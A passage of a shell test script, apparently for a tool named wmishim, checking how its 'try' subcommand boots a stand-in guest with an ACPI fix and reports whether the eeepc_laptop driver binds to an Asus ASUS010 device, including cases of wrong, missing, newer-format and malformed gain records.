	'^gain OSI_HIDDEN_DEVICE \\_SB_\.ATKD acpi ASUS010 eeepc_laptop -$'
# vtry NAME: try --with vgain's copy NAME on the stand-in guest, its output
# in NAME.try, its exit status in NAME.try.rc.
vtry() {
	rc=0
	mkdir -p "$tmp/vtmp"
	WMISHIM_LIBEXECDIR="$data/try-verdict" TMPDIR="$tmp/vtmp" "$tool" try -q \
		--kernel-image "$data/try-vmlinuz" --modules "$data/try-modules" --with "$tmp/$1" \
		"$fixtures/eeepc-vm-fix-dsdt.aml" >"$tmp/$1.try" 2>&1 || rc=$?
	echo "$rc" >"$tmp/$1.try.rc"
}
vtry vgain
desc="try --with it: every gain seen, exit 0"
t sh -c "[ \$(cat '$tmp/vgain.try.rc') -eq 0 ] && grep -qx '  every gain seen (2)' '$tmp/vgain.try'"
desc="  the verdict: eeepc_laptop: no device -> bound to ASUS010:00; eeepc-wmi's -16 explained"
t lines "$tmp/vgain.try" '^verdict:$' \
	'^    eeepc_laptop: no device -> bound to ASUS010:00 \(platform\), eeepc \(platform\)$' \
	'^    eeepc_wmi: Found legacy ATKD device \(ASUS010\) \(with the fix\): eeepc-wmi steps aside for eeepc-laptop: .*acpi_dev_found\(\)'
desc="  the gains, each seen: the GUID's device, ASUS010:00 with eeepc_laptop bound"
t lines "$tmp/vgain.try" \
	'^    seen: WDG_ZERO_INSTANCES \\_SB_\.AMW0: a WMI device of 97845ED0-4E6D-11DE-8A39-0800200C9A66$' \
	'^    seen: OSI_HIDDEN_DEVICE \\_SB_\.ATKD: ASUS010:00 present, eeepc_laptop bound to it$'
cp -a "$tmp/vgain" "$tmp/vnobind"
sed -i 's/ eeepc_laptop / asus_nb_wmi /' "$tmp/vnobind/gains"
vtry vnobind
desc="a record that names a module that cannot bind (asus_nb_wmi): NOT seen, exit 9"
t sh -c "[ \$(cat '$tmp/vnobind.try.rc') -eq 9 ] &&
	grep -qx '    NOT seen: OSI_HIDDEN_DEVICE ._SB_.ATKD: ASUS010:00 present, but asus_nb_wmi bound to none of it' '$tmp/vnobind.try' &&
	grep -qx '  1 of 2 gains NOT seen' '$tmp/vnobind.try'"
cp -a "$tmp/vgain" "$tmp/vnorec"
rm "$tmp/vnorec/gains"
vtry vnorec
desc="a fix without the record (an older wmishim's): the verdict without gain lines, said; exit 0"
t sh -c "[ \$(cat '$tmp/vnorec.try.rc') -eq 0 ] && grep -q '^  the fix.s gains: none to look for' '$tmp/vnorec.try' &&
	! grep -q 'seen:' '$tmp/vnorec.try'"
cp -a "$tmp/vgain" "$tmp/vnewer"
sed -i 's/^wmishim-gains 1$/wmishim-gains 2/' "$tmp/vnewer/gains"
vtry vnewer
desc="a record of a newer format: refused before booting, exit 2"
t sh -c "[ \$(cat '$tmp/vnewer.try.rc') -eq 2 ] && grep -q 'format 2, and this wmishim reads format 1' '$tmp/vnewer.try' &&
	! grep -q '^verdict' '$tmp/vnewer.try'"
cp -a "$tmp/vgain" "$tmp/vbad"
echo 'gain OSI_HIDDEN_DEVICE \_SB_.ATKD acpi ASUS%0A10 eeepc_laptop' >>"$tmp/vbad/gains"
vtry vbad
desc="a record line of five fields: refused before booting, exit 2, its line named"
t sh -c "[ \$(cat '$tmp/vbad.try.rc') -eq 2 ] && grep -q 'line 10 is no \"gain CODE' '$tmp/vbad.try'"
desc="nothing left in try's TMPDIR"
t sh -c "[ -z \"\$(ls -A '$tmp/vtmp')\" ]"

finish
